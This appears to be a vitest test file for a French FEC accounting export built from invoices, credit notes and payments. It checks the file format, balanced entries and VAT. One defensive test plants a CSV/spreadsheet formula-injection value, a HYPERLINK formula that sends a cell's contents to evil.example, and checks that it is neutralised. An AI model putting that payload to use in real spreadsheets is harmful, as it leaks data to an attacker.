import type { Facture, Ligne, Reglement } from '@relais/schema';
import { describe, expect, it } from 'vitest';
import { assertBalanced, buildFec, fecAmount, fecColumns, fecFileName, type FecEntry } from './fec';
import { documentTotals } from './totals';

const entreprise = { id: '00000000-0000-4000-8000-000000000001', siren: '552100554' };
const autre = '00000000-0000-4000-8000-000000000002';
const client = { id: '00000000-0000-4000-8000-0000000000c1', nom: 'Durand', prenom: 'Anne', code: 'DUR-01' };
const sansCode = { id: 'abcdef12-0000-4000-8000-0000000000c2', nom: 'Martin SA' };

let counter = 0;
function ligne(quantite: number, prix: number, taux: number): Ligne {
  counter += 1;
  return { id: `00000000-0000-4000-9000-${String(counter).padStart(12, '0')}`, designation: 'Transport', quantite, prix_unitaire_ht: prix, taux_tva_bp: taux };
}

function facture(id: string, fields: Partial<Facture>): Facture {
  return {
    id,
    rev: 2,
    updated_at: '2026-11-01T08:00:00.000Z',
    entreprise_id: entreprise.id,
    contact_id: client.id,
    type_facture: 'facture',
    statut: 'validee',
    conditions_paiement: { jours: 30, fin_de_mois: false },
    lignes: [],
    regime_tva: 'normale',
    ...fields,
  };
}

function reglement(id: string, facture_id: string, date_reglement: string, montant: number): Reglement {
  return { id, rev: 1, updated_at: '2026-11-01T08:00:00.000Z', facture_id, date_reglement, montant, mode: 'virement', reference: 'VIR 42' };
}

const fa1 = facture('00000000-0000-4000-8000-0000000000f1', {
  numero: 'FA-2026-00001',
  date_facture: '2026-11-05',
  validee_le: '2026-11-05T09:00:00.000Z',
  lignes: [ligne(3, 1999, 2000), ligne(1, 10000, 550), ligne(2.5, 333, 2000)],
});
const fa2 = facture('00000000-0000-4000-8000-0000000000f2', {
  numero: 'FA-2026-00002',
  contact_id: sansCode.id,
  date_facture: '2026-11-20',
  lignes: [ligne(1, 50000, 2000)],
});
const av1 = facture('00000000-0000-4000-8000-0000000000a1', {
  numero: 'AV-2026-00001',
  type_facture: 'avoir',
  facture_origine_id: fa1.id,
  date_facture: '2026-11-21',
  lignes: [ligne(-1, 1999, 2000), ligne(-1, 10000, 550)],
});
const octobre = facture('00000000-0000-4000-8000-0000000000f3', { numero: 'FA-2026-00000', date_facture: '2026-10-30', lignes: [ligne(1, 1000, 2000)] });
const brouillon = facture('00000000-0000-4000-8000-0000000000f4', { statut: 'brouillon', date_facture: '2026-11-10', lignes: [ligne(1, 1000, 2000)] });
const ailleurs = facture('00000000-0000-4000-8000-0000000000f5', { entreprise_id: autre, numero: 'X-1', date_facture: '2026-11-10', lignes: [ligne(1, 1000, 2000)] });

const reglements = [
  reglement('00000000-0000-4000-8000-0000000000b1', octobre.id, '2026-11-02', 1200),
  reglement('00000000-0000-4000-8000-0000000000b2', fa2.id, '2026-11-20', 60000),
  reglement('00000000-0000-4000-8000-0000000000b3', av1.id, '2026-11-25', 500),
  reglement('00000000-0000-4000-8000-0000000000b4', fa1.id, '2026-12-01', 100),
];

function build() {
  return buildFec({
    entreprise,
    factures: [fa2, av1, fa1, octobre, brouillon, ailleurs],
    contacts: [client, sansCode],
    reglements,
    du: '2026-11-01',
    au: '2026-11-30',
  });
}

const sum = (entry: FecEntry, account: string, side: 'debit' | 'credit'): number =>
  entry.lines.filter((line) => line.compteNum === account).reduce((total, line) => total + line[side], 0);

describe('FEC', () => {
  it('writes the 18 fields in order, a header, tabs, comma decimals and AAAAMMJJ dates', () => {
    const fec = build();
    const rows = fec.text.split('\r\n');
    expect(rows.at(-1)).toBe('');
    expect(rows[0]).toBe(fecColumns.join('\t'));
    expect(fecColumns).toHaveLength(18);
    for (const row of rows.slice(1, -1)) {
      expect(row.split('\t')).toHaveLength(18);
    }
    const first = rows[1]?.split('\t') ?? [];
    expect(first).toEqual(['BQ', 'Banque', '1', '20261102', '512000', 'Banque', '', '', 'FA-2026-00000', '20261102', 'Règlement FA-2026-00000 Anne Durand VIR 42', '12,00', '0,00', '', '', '20261102', '', '']);
    expect(fec.fileName).toBe('552100554FEC20261130.txt');
    expect(fecFileName('552100554', '2026-12-31')).toBe('552100554FEC20261231.txt');
    expect(fecAmount(123456)).toBe('1234,56');
    expect(fecAmount(-5)).toBe('-0,05');
  });

  it('keeps the period, the company and validated documents only, numbered in date order', () => {
    const fec = build();
    expect(fec.entries.map((entry) => [entry.ecritureNum, entry.journalCode, entry.date, entry.pieceRef])).toEqual([
      [1, 'BQ', '2026-11-02', 'FA-2026-00000'],
      [2, 'VT', '2026-11-05', 'FA-2026-00001'],
      [3, 'VT', '2026-11-20', 'FA-2026-00002'],
      [4, 'BQ', '2026-11-20', 'FA-2026-00002'],
      [5, 'VT', '2026-11-21', 'AV-2026-00001'],
      [6, 'BQ', '2026-11-25', 'AV-2026-00001'],
    ]);
  });

  it('includes both ends of the period', () => {
    const fec = buildFec({ entreprise, factures: [fa1, fa2], contacts: [], reglements, du: '2026-11-05', au: '2026-11-20' });
    expect(fec.entries.map((entry) => [entry.journalCode, entry.date])).toEqual([
      ['VT', '2026-11-05'],
      ['VT', '2026-11-20'],
      ['BQ', '2026-11-20'],
    ]);
  });

  it('refuses an unbalanced entry', () => {
    const entry = build().entries[1];
    if (!entry) {
      throw new Error('écriture attendue');
    }
    expect(() => assertBalanced(entry)).not.toThrow();
    const [first, ...rest] = entry.lines;
    expect(() => assertBalanced({ ...entry, lines: [{ ...first!, debit: first!.debit + 1 }, ...rest] })).toThrow(/déséquilibrée/);
  });

  it('balances every entry and carries exactly the amounts of documentTotals', () => {
    const fec = build();
    for (const entry of fec.entries) {
      const debit = entry.lines.reduce((total, line) => total + line.debit, 0);
      const credit = entry.lines.reduce((total, line) => total + line.credit, 0);
      expect(debit, `écriture ${entry.ecritureNum}`).toBe(credit);
      for (const line of entry.lines) {
        expect(line.debit === 0 || line.credit === 0).toBe(true);
      }
    }
    const sale = fec.entries.find((entry) => entry.pieceRef === 'FA-2026-00001');
    const totals = documentTotals(fa1.lignes, 'normale');
    expect(sale && sum(sale, '411000', 'debit')).toBe(totals.total_ttc);
    expect(sale && sum(sale, '706000', 'credit')).toBe(totals.total_ht);
    expect(sale && sum(sale, '445710', 'credit')).toBe(totals.total_tva);
    expect(sale?.lines.filter((line) => line.compteNum === '706000').map((line) => [line.compteLib, line.credit])).toEqual(
      totals.tva.map((rate) => [`Prestations de services ${String(rate.taux_tva_bp / 100).replace('.', ',')} %`, rate.base_ht]),
    );
    expect(sale?.lines[0]).toMatchObject({ compAuxNum: 'DUR01', compAuxLib: 'Anne Durand', validDate: '2026-11-05' });
  });

  it('mirrors a credit note and a refund, and derives an account for a customer without code', () => {
    const fec = build();
    const credit = fec.entries.find((entry) => entry.pieceRef === 'AV-2026-00001' && entry.journalCode === 'VT');
    const totals = documentTotals(av1.lignes, 'normale');
    expect(credit && sum(credit, '411000', 'credit')).toBe(-totals.total_ttc);
    expect(credit && sum(credit, '706000', 'debit')).toBe(-totals.total_ht);
    expect(credit && sum(credit, '445710', 'debit')).toBe(-totals.total_tva);
    const refund = fec.entries.find((entry) => entry.pieceRef === 'AV-2026-00001' && entry.journalCode === 'BQ');
    expect(refund?.lines.map((line) => [line.compteNum, line.debit, line.credit])).toEqual([
      ['512000', 0, 500],
      ['411000', 500, 0],
    ]);
    const other = fec.entries.find((entry) => entry.pieceRef === 'FA-2026-00002' && entry.journalCode === 'VT');
    expect(other?.lines[0]?.compAuxNum).toBe('CABCDEF12');
  });

  it('books no VAT under franchise and skips an invoice of zero', () => {
    const franchise = facture('00000000-0000-4000-8000-0000000000f6', { numero: 'FA-9', date_facture: '2026-11-03', regime_tva: 'franchise', lignes: [ligne(1, 1000, 0)] });
    const zero = facture('00000000-0000-4000-8000-0000000000f7', { numero: 'FA-10', date_facture: '2026-11-03', lignes: [ligne(1, 1000, 2000), ligne(-1, 1000, 2000)] });
    const fec = buildFec({ entreprise, factures: [franchise, zero], contacts: [], reglements: [], du: '2026-11-01', au: '2026-11-30' });
    expect(fec.entries.map((entry) => entry.lines.map((line) => [line.compteNum, line.debit, line.credit]))).toEqual([
      [
        ['411000', 1000, 0],
        ['706000', 0, 1000],
      ],
    ]);
  });

  it('writes a hostile customer name as text, never as a formula, and leaves amounts, dates and codes as they are', () => {
    const hostile = { id: client.id, nom: '=HYPERLINK("http://evil.example/?"&A1,"click")', code: '@SUM' };
    const reference = { ...reglements[0]!, reference: '+cmd' };
    const fec = buildFec({ entreprise, factures: [octobre], contacts: [hostile], reglements: [reference], du: '2026-10-01', au: '2026-11-30' });
    const rows = fec.text.split('\r\n').slice(1, -1).map((row) => row.split('\t'));
    expect(rows).toHaveLength(5);
    const column = (name: (typeof fecColumns)[number]) => fecColumns.indexOf(name);
    for (const row of rows) {
      expect(row).toHaveLength(18);
      // No field a spreadsheet would run.
      expect(row.filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
      expect(row[column('Debit')]).toMatch(/^\d+,\d{2}$/);
      expect(row[column('EcritureDate')]).toMatch(/^\d{8}$/);
    }
    const sale = rows.find((row) => row[0] === 'VT' && row[column('CompAuxLib')] !== '')!;
    expect(sale[column('CompAuxLib')]).toBe(`'${hostile.nom}`);
    expect(sale[column('CompAuxNum')]).toBe('SUM');
    expect(sale[column('Debit')]).toBe('12,00');
    // A label is neutralised only when it would start like a formula.
    expect(sale[column('EcritureLib')]).toBe(`Facture FA-2026-00000 ${hostile.nom}`);
    const payment = rows.find((row) => row[0] === 'BQ' && row[column('CompAuxLib')] !== '')!;
    expect(payment[column('CompAuxLib')]).toBe(`'${hostile.nom}`);
    expect(payment[column('EcritureLib')]).toBe(`Règlement FA-2026-00000 ${hostile.nom} +cmd`);
  });
});
